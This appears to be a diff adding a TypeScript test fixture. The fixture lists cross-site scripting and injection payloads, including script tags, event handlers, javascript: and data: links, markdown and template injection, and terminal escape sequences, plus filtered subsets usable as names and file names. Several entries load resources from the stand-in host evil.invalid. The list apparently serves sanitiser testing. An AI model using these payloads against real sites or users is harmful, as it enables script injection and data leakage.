@@ -1,0 +1,76 @@
+/** Texts that would run where text is taken for HTML, a script, a style or an address. */
+const run = "window.__pwned=1";
+
+export const payloads: string[] = [
+  `<script>${run}</script>`,
+  `<ScRiPt>${run}</sCrIpT>`,
+  `<script src=https://evil.invalid/x.js></script>`,
+  `"><script>${run}</script>`,
+  `'><script>${run}</script>`,
+  `</title><script>${run}</script>`,
+  `</textarea><script>${run}</script>`,
+  `</style><script>${run}</script>`,
+  `<img src=x onerror=${run}>`,
+  `<img src="x" onerror="${run}">`,
+  `<img/src=x/onerror=${run}>`,
+  `<img src=https://evil.invalid/pixel.png>`,
+  `<image src=x onerror=${run}>`,
+  `<svg onload=${run}>`,
+  `<svg/onload=${run}>`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${run}"><text x=9 y=9>x</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`,
+  `<math><a xlink:href="javascript:${run}">x</a></math>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
+  `<iframe src="javascript:${run}"></iframe>`,
+  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
+  `<object data="javascript:${run}"></object>`,
+  `<embed src="javascript:${run}">`,
+  `<a href="javascript:${run}">click</a>`,
+  `<a href="java&#x09;script:${run}">click</a>`,
+  `<a href="&#106;avascript:${run}">click</a>`,
+  `[click](javascript:${run})`,
+  `[click](JaVaScRiPt:${run})`,
+  `[click](data:text/html,<script>${run}</script>)`,
+  `[click](vbscript:${run})`,
+  `![picture](x"onerror="${run})`,
+  `![picture](https://evil.invalid/pixel.png)`,
+  `![picture](javascript:${run})`,
+  `<javascript:${run}>`,
+  `[ref]: javascript:${run}\n[ref]`,
+  `<body onload=${run}>`,
+  `<input autofocus onfocus=${run}>`,
+  `<select autofocus onfocus=${run}>`,
+  `<details open ontoggle=${run}>`,
+  `<video><source onerror=${run}></video>`,
+  `<audio src=x onerror=${run}>`,
+  `<marquee onstart=${run}>`,
+  `<form action="javascript:${run}"><button>x</button></form>`,
+  `<button formaction="javascript:${run}" autofocus>x</button>`,
+  `<link rel=stylesheet href=https://evil.invalid/x.css>`,
+  `<link rel=prefetch href=https://evil.invalid/x>`,
+  `<meta http-equiv=refresh content="0;url=https://evil.invalid/">`,
+  `<base href=https://evil.invalid/>`,
+  `<style>@import 'https://evil.invalid/x.css';</style>`,
+  `<div style="background:url(https://evil.invalid/x)">x</div>`,
+  `<template><img src=x onerror=${run}></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `<!--><img src=x onerror=${run}>-->`,
+  `<![CDATA[><img src=x onerror=${run}>]]>`,
+  `\${${run}}`,
+  `{{constructor.constructor('${run}')()}}`,
+  `javascript:${run}`,
+  `\u001b]8;;javascript:${run}\u0007link\u001b]8;;\u0007`,
+  `\u202e<script>${run}</script>`,
+  `__proto__`,
+];
+
+/** All of them in one text of many lines. */
+export const everything = payloads.join("\n\n");
+
+/** Those that a name of one line may be: no line ends, no control characters. */
+export const names = payloads.filter((one) => ![...one].some((sign) => sign < " " || sign === "\u007f") && one.length <= 120);
+
+/** Those that a file may be called. */
+export const fileNames = names.filter((one) => !one.includes("/") && !one.includes("\\") && one.length < 100);
